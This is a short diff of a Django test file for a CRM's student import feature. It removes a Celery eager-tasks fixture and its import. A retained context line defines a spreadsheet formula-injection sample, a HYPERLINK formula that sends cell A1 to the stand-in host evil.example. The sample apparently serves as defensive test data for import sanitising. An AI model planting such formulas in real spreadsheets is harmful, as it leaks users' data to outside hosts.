@@ -13,7 +13,6 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from config.celery import app as celery_app
 from crm.models import ImportJob, Student
 from crm.services.imports import import_job_progress, import_rows, read_table
 from crm.services.imports.jobs import JobProgress, progress_key
@@ -29,15 +28,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 def _media_and_english(settings, tmp_path):
     settings.MEDIA_ROOT = tmp_path
     settings.LANGUAGE_CODE = "en"  # the pages' words, whatever translations exist
-
-
-@pytest.fixture
-def eager_tasks():
-    """Tasks run in-process, as in the embedded default (tests run with REDIS_URL set)."""
-    before = celery_app.conf.task_always_eager
-    celery_app.conf.task_always_eager = True
-    yield
-    celery_app.conf.task_always_eager = before
 
 
 def upload(client, content: bytes, *, kind: str = "students", name: str = "学生.csv", **extra: object):
